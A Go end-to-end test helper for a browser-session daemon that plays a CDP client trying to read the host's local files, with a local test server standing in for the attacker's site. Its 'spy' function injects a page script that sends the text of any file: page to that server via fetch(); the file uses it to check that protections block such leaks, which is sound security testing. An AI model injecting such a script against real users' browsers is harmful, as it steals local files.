package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stasisd/stasis/e2e/daemon"
)

// watchTime is how long a test watches for bytes that must not arrive. Without a
// protection they arrive in less than a second on an idle machine.
const watchTime = 3 * time.Second

// stepTime bounds each step of a route while a protection is on: the step may be
// refused, cut off or left without an answer. Without a protection a step has more time.
const stepTime = 5 * time.Second

// fileAttacker is a CDP client that tries to read files of the machine.
type fileAttacker struct {
	t      *testing.T
	d      *daemon.Daemon
	s      liveSession
	w      *wire
	site   *httptest.Server // serves pages, and receives what pages send to it
	wanted []wantedFile
	engine string
	open   bool // no protection is on, so the bytes must arrive

	shared     bool     // s is a session that several routes use, one after the other
	extensions []string // uploaded extensions of a shared session, for one route each

	profile string        // a profile with a stored handle of a wanted file
	keeper  *fileAttacker // has such a profile, of its own site

	mu   sync.Mutex
	sent []string // what pages have sent to the site
}

// newFileAttacker makes an attacker with its own site.
func newFileAttacker(t *testing.T, d *daemon.Daemon, l []wantedFile) *fileAttacker {
	x := &fileAttacker{t: t, d: d, wanted: l}
	x.site = httptest.NewServer(http.HandlerFunc(x.serve))
	t.Cleanup(x.site.Close)
	return x
}

// serve is the handler of the attacker's site.
func (x *fileAttacker) serve(w http.ResponseWriter, r *http.Request) {
	x.mu.Lock()
	x.sent = append(x.sent, r.URL.RawQuery)
	x.mu.Unlock()
	if r.URL.Path == "/paper.pdf" {
		w.Header().Set("Content-Type", "application/pdf")
		_, _ = fmt.Fprint(w, onePage)
		return
	}
	if r.URL.Path == "/file.bin" {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("ETag", `"one"`)
		http.ServeContent(w, r, "", time.Time{}, strings.NewReader(strings.Repeat("x", 27)))
		return
	}
	w.Header().Set("Content-Type", "text/html")
	_, _ = fmt.Fprint(w, `<title>site</title><body style="height:900px">plain</body>`)
}

const onePage = "%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
	"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n"

// enter creates a session, or continues a shared one, and connects with its ticket only.
func (x *fileAttacker) enter(body obj) {
	x.t.Helper()
	if !x.shared {
		x.s = begin(x.t, x.d, body)
	}
	x.w = dial(x.t, x.s.CDP)
	x.w.keepRaw()
}

// leave ends the session.
func (x *fileAttacker) leave() {
	x.w.close()
	finish(x.t, x.d, x.s.ID, throwAway)
}

// share creates a session for several routes, with an extension for each that needs one.
func (x *fileAttacker) share(routes []route) {
	x.t.Helper()
	body := obj{"engine": x.engine}
	x.extensions = nil
	for _, r := range routes {
		if r.extension {
			x.extensions = append(x.extensions, x.upload(r.name))
		}
	}
	if len(x.extensions) > 0 {
		body["extensions"] = x.extensions
	}
	x.s, x.shared = begin(x.t, x.d, body), true
}

// clear ends a route in a shared session: it closes all pages but a new one, and forgets
// what has arrived. The test fails if the session no longer works.
func (x *fileAttacker) clear() {
	x.t.Helper()
	x.w.close()
	w := dial(x.t, x.s.CDP)
	defer w.close()
	var fresh struct{ TargetID string }
	w.call("", "Target.createTarget", obj{"url": "about:blank"}, &fresh)
	for _, info := range w.targets() {
		if info.Type == "page" && info.ID != fresh.TargetID {
			w.try("", "Target.closeTarget", obj{"targetId": info.ID})
		}
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	x.sent = nil
}

// step sends a command and returns its answer; the zero reply if there is none.
func (x *fileAttacker) step(session, method string, params any) reply {
	x.t.Helper()
	select {
	case r := <-x.w.post(session, method, params):
		return r
	case <-x.w.closed:
	case <-time.After(x.within(stepTime)):
	}
	return reply{}
}

// within returns a bound on time, which is longer if no protection is on.
func (x *fileAttacker) within(bound time.Duration) time.Duration {
	if x.open {
		return grace
	}
	return bound
}

// eval is step for a script. It returns the script's value as text.
func (x *fileAttacker) eval(session, script string) string {
	x.t.Helper()
	r := x.step(session, "Runtime.evaluate", obj{"expression": script, "awaitPromise": true, "returnByValue": true, "userGesture": true})
	var got struct {
		Result           struct{ Value any }
		ExceptionDetails any
	}
	if r.Error != nil {
		return "error: " + r.Error.Message
	}
	_ = json.Unmarshal(r.Result, &got) // an empty answer has no value
	if got.ExceptionDetails != nil {
		return fmt.Sprint("exception: ", got.ExceptionDetails)
	}
	return fmt.Sprint(got.Result.Value)
}

// spy makes every document of a page report what it shows, in its console and to the
// attacker's site. It does not wait for answers.
func (x *fileAttacker) spy(session string) {
	x.w.post(session, "Page.addScriptToEvaluateOnNewDocument", obj{"source": `addEventListener("DOMContentLoaded", () => {
		const text = document.documentElement.textContent; console.log("spy", location.href, text);
		if (location.protocol == "file:") fetch("` + x.site.URL + `/?" + encodeURIComponent(text), {mode: "no-cors"}) })`})
	x.w.post(session, "Page.enable", nil)
	x.w.post(session, "Runtime.enable", nil)
}

// newPage opens a page of the attacker's site and waits until it has loaded.
func (x *fileAttacker) newPage(path string) (session, target string) {
	x.t.Helper()
	var made struct{ TargetID string }
	x.w.call("", "Target.createTarget", obj{"url": "about:blank"}, &made)
	session = x.w.attach(made.TargetID)
	x.w.open(session, x.site.URL+path)
	return session, made.TargetID
}

// restore creates a session from an imported profile. Its only tab has visited the
// wanted files and then a page of the attacker's site, which restore returns.
func (x *fileAttacker) restore() (last string) {
	x.t.Helper()
	last = x.site.URL + "/"
	a := imports(x.t, x.d, "datadir", visited(x.t, append(x.urls(), last)...))
	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID, "restore_tabs": true})
	return last
}

// urls returns the addresses of the wanted files.
func (x *fileAttacker) urls() (urls []string) {
	for _, l := range x.wanted {
		urls = append(urls, l.url())
	}
	return urls
}

// arrived reports whether the text of a wanted file has arrived.
func (x *fileAttacker) arrived(l wantedFile) bool {
	if x.w.rawContains(l.text) {
		return true
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	return slices.ContainsFunc(x.sent, func(s string) bool { return strings.Contains(s, l.text) })
}

// all reports whether the texts of all wanted files have arrived.
func (x *fileAttacker) all() bool {
	return !slices.ContainsFunc(x.wanted, func(l wantedFile) bool { return !x.arrived(l) })
}

// pause waits briefly for the next message. Another reader may have taken the token, and
// bytes over the network arrive at the site.
func (x *fileAttacker) pause() {
	select {
	case <-x.w.eventCame:
	case <-time.After(20 * time.Millisecond):
	}
}

// watch waits until all of them have arrived or the time is over.
func (x *fileAttacker) watch() {
	for end := time.Now().Add(x.within(watchTime)); time.Now().Before(end) && !x.all(); {
		x.pause()
	}
}

// count fails the test if not all of them have arrived without a protection, or if
// any has arrived with one.
func (x *fileAttacker) count() {
	x.t.Helper()
	for _, l := range x.wanted {
		if got := x.arrived(l); got != x.open {
			x.t.Errorf("%s (%s) arrived: %v", l.name, l.path, got)
		}
	}
}

// find returns the target whose address has a prefix, once there is one; empty if there
// is none in time.
func (x *fileAttacker) find(prefix string) string {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
		var got struct{ TargetInfos []targetInfo }
		_ = json.Unmarshal(x.step("", "Target.getTargets", obj{"filter": []obj{{}}}).Result, &got) // an empty answer has none
		for _, info := range got.TargetInfos {
			if strings.HasPrefix(info.URL, prefix) && info.Type != "tab" {
				return info.ID
			}
		}
		select { // an event may announce the target, but not if a filter hides it
		case <-x.w.eventCame:
		case <-time.After(20 * time.Millisecond):
		}
	}
	return ""
}

// awaitEvent waits for an event, for the time of a step.
func (x *fileAttacker) awaitEvent(method string) (event, bool) {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
		if e, ok := x.w.find("", method); ok {
			return e, true
		}
		select {
		case <-x.w.eventCame:
		case <-x.w.closed:
			return event{}, false
		case <-time.After(20 * time.Millisecond): // another reader may have taken the token
		}
	}
	return event{}, false
}

// until waits until any message contains a text, for the time of a step.
func (x *fileAttacker) until(text string) {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end) && !x.w.rawContains(text); {
		select {
		case <-x.w.eventCame:
		case <-x.w.closed:
			return
		case <-time.After(20 * time.Millisecond): // another reader may have taken the token
		}
	}
}

// attach is step for Target.attachToTarget.
func (x *fileAttacker) attach(target string) string {
	var got struct {
		SessionID string `json:"sessionId"`
	}
	_ = json.Unmarshal(x.step("", "Target.attachToTarget", obj{"targetId": target, "flatten": true}).Result, &got) // an empty answer has none
	return got.SessionID
}
